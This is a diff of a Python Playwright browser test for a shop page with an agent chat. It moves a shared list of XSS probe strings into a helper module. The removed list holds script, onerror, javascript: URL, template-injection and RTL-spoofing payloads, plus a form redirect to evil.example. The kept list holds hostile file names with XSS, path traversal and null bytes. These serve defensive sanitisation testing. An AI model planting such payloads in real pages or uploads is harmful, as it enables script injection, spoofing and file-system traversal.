@@ -2,49 +2,24 @@
 
 from __future__ import annotations
 
-import io
 from collections.abc import Callable
 from typing import Any
 
 import pytest
 import socketio
-from PIL import Image
 
 from tests.browser.backstage import agent_says, on_socket, stored
 from tests.browser.shop_page import ShopPage
 from tests.browser.visitor import PATIENCE, Visitor
 from tests.conversation.server import Server
+from tests.hostile import CORPUS, png
 
 expect = pytest.importorskip("playwright.sync_api").expect
 pytestmark = pytest.mark.browser
 Arrive = Callable[..., Visitor]
 
-CORPUS = [
-    "<img src=x onerror=alert(1)>",
-    "<script>alert(1)</script>",
-    "<svg/onload=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)//https://example.com",
-    "[click](javascript:alert(1))",
-    "https://example.com/\"onmouseover=alert(1)//",
-    "data:text/html,<script>alert(1)</script>",
-    "vbscript:msgbox(1)",
-    "{{constructor.constructor('alert(1)')()}}",
-    "\u202ehttps://example.com/exe.gpj",
-    "&lt;b&gt;<b>bold</b>",
-    "<style>*{display:none}</style>",
-    "<a href='javascript:alert(1)'>here</a>",
-    "<base href=//evil.example><form action=//evil.example><input name=a>",
-]
 NAMES = ["<img src=x onerror=alert(1)>.png", "photo\u202egnp.exe", "..\\..\\..\\passwd.png",
          "a\"onload=alert(1).pdf", "%00.html.png"]
-
-
-def png(size: tuple[int, int] = (320, 200)) -> bytes:
-    target = io.BytesIO()
-    Image.new("RGB", size, (120, 40, 20)).save(target, "PNG")
-    return target.getvalue()
 
 
 def cookie(visitor: Visitor) -> str:
